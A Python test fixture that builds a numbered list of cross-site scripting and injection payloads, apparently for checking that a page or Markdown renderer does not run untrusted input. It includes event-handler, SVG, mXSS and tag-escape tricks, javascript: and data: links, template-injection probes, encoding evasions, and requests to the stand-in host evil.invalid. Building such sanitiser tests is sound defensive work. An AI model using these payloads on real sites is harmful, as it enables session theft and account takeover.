"""What would somebody write who wants a page to run it? One text for each trick, each with its number.

Each of them, where it works, sets `window.__xss`, asks something of evil.invalid, or leaves an element or an
attribute that bears `xss`: a browser shows all of these.
"""

from __future__ import annotations

from typing import Final

_ASKS: Final = "//evil.invalid/{n}"
_RUNS: Final = "window.__xss={n}"
_IMAGE: Final = f"<img data-xss={{n}} src=x onerror={_RUNS}>"

_PATTERNS: Final = (
    # Elements that run, or that ask for something.
    f"<script>{_RUNS}</script>",
    f"<ScRiPt data-xss={{n}} SRC={_ASKS}.js></sCrIpT >",
    f"<script/data-xss={{n}}>{_RUNS}</script",
    _IMAGE,
    f"<img data-xss={{n}} src=`x` onerror=`{_RUNS}`>",
    f"<IMG/data-xss={{n}}/SRC=x/onerror={_RUNS}//",
    f"<svg/data-xss={{n}} onload={_RUNS}>",
    f"<svg><script data-xss={{n}}>{_RUNS}</script></svg>",
    f'<svg><a data-xss={{n}} xlink:href="javascript:{_RUNS}"><text y=20>x</text></a></svg>',
    f"<svg><animate data-xss={{n}} onbegin={_RUNS} attributeName=x dur=1s></svg>",
    '<svg><use data-xss={n} href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x"></svg>',
    f"<math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    f'<math><mi data-xss={{n}} xlink:href="javascript:{_RUNS}">x</mi></math>',
    f'<noscript><p title="</noscript>{_IMAGE}">',
    f"<details open data-xss={{n}} ontoggle={_RUNS}>",
    '<iframe data-xss={n} srcdoc="<script>parent.__xss={n}</script>"></iframe>',
    "<iframe data-xss={n} src=javascript:parent.__xss={n}></iframe>",
    f"<object data-xss={{n}} data=javascript:{_RUNS}></object>",
    f"<embed data-xss={{n}} src={_ASKS}>",
    f"<video data-xss={{n}}><source onerror={_RUNS}></video>",
    f"<audio data-xss={{n}} src=x onerror={_RUNS}></audio>",
    f"<input data-xss={{n}} autofocus onfocus={_RUNS}>",
    f"<body data-xss={{n}} onload={_RUNS}>",
    f"<marquee data-xss={{n}} onstart={_RUNS}>x</marquee>",
    f"<xss-{{n}} onclick={_RUNS} style=animation-name:x onanimationstart={_RUNS}>x</xss-{{n}}>",
    f"<template><script data-xss={{n}}>{_RUNS}</script></template>",
    f"<link data-xss={{n}} rel=stylesheet href={_ASKS}.css>",
    f'<meta data-xss={{n}} http-equiv=refresh content="0;url={_ASKS}">',
    "<base data-xss={n} href=https://evil.invalid/>",
    f"<form data-xss={{n}} action={_ASKS}><button autofocus>x</button></form>",
    f"<a data-xss={{n}} href=javascript:{_RUNS}>x</a>",
    f'<a data-xss={{n}} href=" &#14;  javascript:{_RUNS}">x</a>',
    f"<style data-xss={{n}}>@import '{_ASKS}.css';*{{background:url({_ASKS})}}</style>",
    f"<details><summary>x</summary><div style=background:url({_ASKS}) data-xss={{n}}>x</div></details>",
    # Ways out of where a text stands.
    f'">{_IMAGE}',
    f"'>{_IMAGE}",
    f"</script><script>{_RUNS}</script>",
    f"</style><script>{_RUNS}</script>",
    f"</title></textarea></select></option><script>{_RUNS}</script>",
    f"]]><script>{_RUNS}</script><![CDATA[",
    f"--><script>{_RUNS}</script><!--",
    f"</text></svg><script>{_RUNS}</script>",
    f"</pre></code></td></tr></table></details>{_IMAGE}",
    f'" onmouseover="{_RUNS}" autofocus onfocus="{_RUNS}" data-xss="{{n}}',
    f"' onmouseover='{_RUNS}' autofocus onfocus='{_RUNS}' data-xss='{{n}}",
    f" onclick={_RUNS} data-xss={{n}} ",
    f"x; }} body {{ background: url({_ASKS}) }} .y {{",
    f'role-good" data-xss="{{n}}" onload="{_RUNS}',
    # What somebody might take for markup, or unescape once too often.
    f"&lt;script&gt;{_RUNS}&lt;/script&gt;",
    f"&#60;img data-xss={{n}} src=x onerror={_RUNS}&#62;",
    f"&amp;lt;script&amp;gt;{_RUNS}&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ewindow.__xss%3D{n}%3C/script%3E",
    "\\u003cscript\\u003ewindow.__xss={n}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_RUNS}\uff1c/script\uff1e",
    "{{7*7}}{{ ''.__class__.__mro__[1].__subclasses__() }}{{ self }}{n}",
    "{% for x in [1] %}{{ x }}{% endfor %}{# {n} #}",
    "${7*7}#{7*7}<%= 7*7 %>*{7*7}{n}",
    # Markdown.
    f"[x](javascript:{_RUNS})",
    f"[x](JaVaScRiPt:{_RUNS})",
    f"[x](java\tscript:{_RUNS}) [x](<java\nscript:{_RUNS}>)",
    f"[x](\x01javascript:{_RUNS}) [x](\u00a0javascript:{_RUNS})",
    f"[x](&#106;avascript:{_RUNS}) [x](javascript&colon;{_RUNS}) [x](&Tab;javascript:{_RUNS})",
    f"[x](%6Aavascript:{_RUNS}) [x](javascript%3A{_RUNS})",
    f"[x](data:text/html;base64,PHNjcmlwdD4K) [x](data:text/html,<script>{_RUNS}</script>)",
    "[x](vbscript:msgbox({n})) [x](file:///etc/passwd) [x](blob:https://evil.invalid/{n})",
    f"<javascript:{_RUNS}> <data:text/html,{{n}}> <vbscript:x>",
    f"![x](https:{_ASKS}.png) ![x](data:image/svg+xml,<svg/onload={_RUNS}>)",
    f'![x"data-xss="{{n}}"onerror="{_RUNS}](x.png "y"onload="{_RUNS}")',
    f"[x](https:{_ASKS}'onmouseover='{_RUNS} 'y\" onmouseover=\"{_RUNS}\" data-xss=\"{{n}}')",
    f'[x]: javascript:{_RUNS} "y"\n\n[x] [x][x] ![x]',
    f'```html"><img data-xss={{n}} onerror="{_RUNS}\n{_IMAGE}\n```\n`{_IMAGE}`',
    f"<https:{_ASKS}\"onmouseover=\"{_RUNS}> https:{_ASKS}/<b/data-xss={{n}}> www.evil.invalid/'onclick='x",
    f"| a | b |\n|---|---|\n| <b data-xss={{n}}>x</b> | {_IMAGE} |\n\n- [x](javascript:{_RUNS})\n> {_IMAGE}",
    f"#{'#' * 40} {_IMAGE}\n{'>' * 60} {_IMAGE}\n{'*' * 300}{_IMAGE}{'[' * 300}",
    # What a text can be made of.
    f"<scr\x00ipt>{_RUNS}</scr\x00ipt><\x00img data-xss={{n}} src=x onerror={_RUNS}>",
    f"\u202e{_IMAGE}\u202c\u2066\u200f\u200b\ufeff\u2028\u2029",
    f"\x1b[31m{_IMAGE}\x1b[0m\x1b]8;;javascript:{_RUNS}\x07x\x1b]8;;\x07\x9b2J\r\n\x08\x7f",
    f"\ud800{_IMAGE}\udfff",
    _IMAGE + "🧨" * 200 + "A\u0301" * 500,
    "<b data-xss={n}>" * 5000 + _IMAGE,
)


def mark(number: int) -> str:
    """Return what stands behind the trick of this number, to be seen on a page that shows it."""
    return f"={number:03d}="


ATTACKS: Final = tuple(
    pattern.replace("{n}", str(number)) + f" {mark(number)}" for number, pattern in enumerate(_PATTERNS)
)
SHORT: Final = tuple(text for text in ATTACKS if len(text.encode("utf-8", "surrogatepass")) < 220)
"""Those that a column of 256 bytes keeps whole."""
